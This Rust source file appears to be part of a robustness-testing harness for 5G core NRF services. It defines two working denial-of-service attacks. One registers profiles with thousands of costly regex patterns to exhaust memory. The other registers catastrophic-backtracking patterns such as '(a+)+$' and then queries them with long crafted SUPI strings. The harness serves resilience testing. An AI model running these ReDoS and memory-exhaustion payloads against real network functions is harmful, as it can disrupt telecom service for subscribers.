//! Regular expressions of strangers.

use std::rc::Rc;
use std::time::Duration;

use serde_json::json;

use super::{id, put, remove};
use crate::answer::Ask;
use crate::attack::{Attack, attack};
use crate::field::Field;
use crate::stage::Stage::Nrf;
use crate::stage::profile;

pub(super) const ALL: &[Attack] = &[
    attack(
        "nrf.pattern-memory",
        "profiles with 2,000 patterns that are costly to compile",
        Nrf,
        |f| Box::pin(memory(f)),
    )
    .alone(),
    attack(
        "nrf.pattern-time",
        "patterns that backtracking engines never finish",
        Nrf,
        |f| Box::pin(time(f)),
    ),
];

async fn memory(field: Rc<Field>) -> anyhow::Result<()> {
    let ranges: Vec<_> = (0..field.of(2_000, 1_200))
        .map(|n| json!({"pattern": format!("^[0-9]{{1,{}}}x$", 800 + n)}))
        .collect();
    for number in 0..field.of(4, 2) {
        let more = json!({"udmInfo": {"supiRanges": ranges}});
        let own = profile(&id(0xc00 + number), "UDM", "nudm-ueau", 9, &more);
        let got = put(&field, 0xc00 + number, &own).await;
        field.note(format_args!("{} patterns: {}", ranges.len(), got.status));
        field.check(got.status != 0, "a profile of patterns is not answered");
        let query = "/nnrf-disc/v1/nf-instances?target-nf-type=UDM&requester-nf-type=AMF&service-names=nudm-ueau&supi=imsi-00101";
        field
            .ask(&Ask::get(format!("{query}{number}")).within(Duration::from_secs(10)))
            .await;
    }
    for number in 0..field.of(4, 2) {
        remove(&field, 0xc00 + number).await;
    }
    Ok(())
}

async fn time(field: Rc<Field>) -> anyhow::Result<()> {
    let evil = [
        "(a+)+$",
        "(a|aa)+$",
        "(.*a){25}$",
        "^(([a-z])+.)+[A-Z]([a-z])+$",
        "((a{1,100}){1,100}){1,100}",
    ];
    for (number, pattern) in (0u32..).zip(evil) {
        let more = json!({"udmInfo": {"supiRanges": [{"pattern": pattern}]}});
        let own = profile(&id(0xc10 + number), "UDM", "nudm-ueau", 9, &more);
        put(&field, 0xc10 + number, &own).await;
    }
    for n in 0..field.of(200, 20) {
        let supi = format!("imsi-{}{n}!", "a".repeat(2_000));
        let query =
            format!("/nnrf-disc/v1/nf-instances?target-nf-type=UDM&requester-nf-type=AMF&supi={supi}");
        field.ask(&Ask::get(query)).await;
    }
    for number in 0..5 {
        remove(&field, 0xc10 + number).await;
    }
    Ok(())
}
